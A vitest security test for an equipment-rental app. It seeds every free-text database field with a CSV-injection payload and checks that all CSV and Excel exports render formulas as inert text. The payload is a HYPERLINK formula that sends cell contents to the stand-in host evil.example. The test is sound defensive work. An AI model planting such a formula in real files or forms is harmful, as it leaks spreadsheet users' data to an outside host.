// CSV injection (issue 31), generated from /api/openapi.json: with a formula in every text field a
// customer or the rental company's systems can fill, no cell of any CSV or Excel export (issue 33)
// reaches a spreadsheet as a formula. Each export must also show at least one of those formulas, guarded: an export that
// read none of the poisoned fields would pass without proving anything.
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { parseCsv, readXlsx } from './files';
import { createHarness, type Harness } from './harness';

/** Anna manages Northwind Bouw and sees prices: every export and every column is open to her. */
const ANNA = ['anna@northwind.test', 'northwind-bouw'] as const;
/** The tables whose text reaches an export (typed by customers, or sent by the rental company). */
const poisoned = ['projects', 'addresses', 'contact_persons', 'users', 'roles', 'assets', 'documents', 'orders', 'order_lines', 'contracts', 'contract_lines', 'requests', 'request_lines', 'depots', 'corporate_clients'];
/** Text columns that are codes or secrets, not free text: the app reads them, a person does not type them. */
const untouched = /^(email|password_hash|country|currency|content_type|status|kind|type|language|preferred_language|external_uuid|token_hash|rental_contact_email)$/;
const FORMULA = '=HYPERLINK("https://evil.example/?x="&A2,"Open")';
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(?:[.,]\d+)*$/.test(cell);

let h: Harness;
let exports: string[];
let workbooks: string[];

async function rowsOf<T>(query: ReturnType<typeof sql>): Promise<T[]> {
  return ((await h.database.db.execute(query)) as unknown as { rows: T[] }).rows;
}

beforeAll(async () => {
  h = await createHarness();
  await h.as(...ANNA); // signed in before the names change
  const columns = await rowsOf<{ table_name: string; column_name: string }>(sql`
    SELECT table_name, column_name FROM information_schema.columns
    WHERE table_schema = current_schema() AND data_type IN ('text', 'character varying')
      AND table_name IN (${sql.join(poisoned.map((t) => sql`${t}`), sql`, `)})`);
  for (const { table_name: table, column_name: column } of columns.filter((c) => !untouched.test(c.column_name))) {
    // Prefixed, so unique values stay unique.
    await h.database.db.execute(sql.raw(`UPDATE ${table} SET ${column} = '${FORMULA.replace(/'/g, "''")}' || ${column} WHERE ${column} <> ''`));
  }
  // Product and category names are per language.
  for (const table of ['products', 'product_categories']) {
    await h.database.db.execute(sql.raw(`UPDATE ${table} SET names = (SELECT jsonb_object_agg(key, '=' || value) FROM jsonb_each_text(names))`));
  }
  const doc = (await h.app.inject('/api/openapi.json')).json() as { paths: Record<string, Record<string, { responses?: Record<string, { content?: Record<string, unknown> }> }>> };
  exports = Object.entries(doc.paths)
    .filter(([, methods]) => Object.keys(methods.get?.responses?.['200']?.content ?? {}).some((type) => type.startsWith('text/csv')))
    .map(([path]) => path);
  workbooks = Object.entries(doc.paths)
    .filter(([, methods]) => Object.keys(methods.get?.responses?.['200']?.content ?? {}).some((type) => type.includes('spreadsheetml')))
    .map(([path]) => path);
}, 120_000);
afterAll(() => h?.close());

describe('CSV exports with a formula in every text field', () => {
  it('finds the exports in the OpenAPI document', () => {
    expect(exports.length).toBeGreaterThanOrEqual(6);
    expect(exports.every((path) => !path.includes('{'))).toBe(true);
  });

  it('writes no cell as a formula, and shows the formulas as text', async () => {
    for (const path of exports) {
      const res = await h.app.inject({ url: path, headers: await h.as(...ANNA) });
      expect(res.statusCode, path).toBe(200);
      const cells = parseCsv(res.body.replace(/^\uFEFF/, '')).slice(1).flat();
      expect(cells.filter(isFormula), path).toEqual([]);
      expect(cells.some((cell) => cell.startsWith(`'=`)), `${path} shows a guarded formula`).toBe(true);
    }
  });

  it('has an Excel export beside every CSV export', () => {
    // Every list exports both; the statement of account (issue 33) is a workbook and a PDF only.
    const listWorkbooks = workbooks.filter((path) => path.endsWith('/export.xlsx'));
    expect(workbooks.filter((path) => !listWorkbooks.includes(path))).toEqual(['/api/overview/documents/statement.xlsx']);
    expect(listWorkbooks.map((path) => path.replace(/\.xlsx$/, '.csv')).sort()).toEqual([...exports].sort());
  });

  it('writes no Excel cell as a formula: the formulas are string values', async () => {
    for (const path of workbooks) {
      const res = await h.app.inject({ url: path, headers: await h.as(...ANNA) });
      expect(res.statusCode, path).toBe(200);
      const { rows } = await readXlsx(res.rawPayload);
      const cells = rows.flatMap((row) => {
        const found: ExcelJS.Cell[] = [];
        row.eachCell((cell) => found.push(cell));
        return found;
      });
      expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula || cell.formula), path).toEqual([]);
      const formulas = cells.filter((cell) => typeof cell.value === 'string' && cell.value.startsWith('='));
      expect(formulas.length, `${path} shows a formula as text`).toBeGreaterThan(0);
      expect(formulas.every((cell) => cell.type === ExcelJS.ValueType.String), path).toBe(true);
    }
  });
});
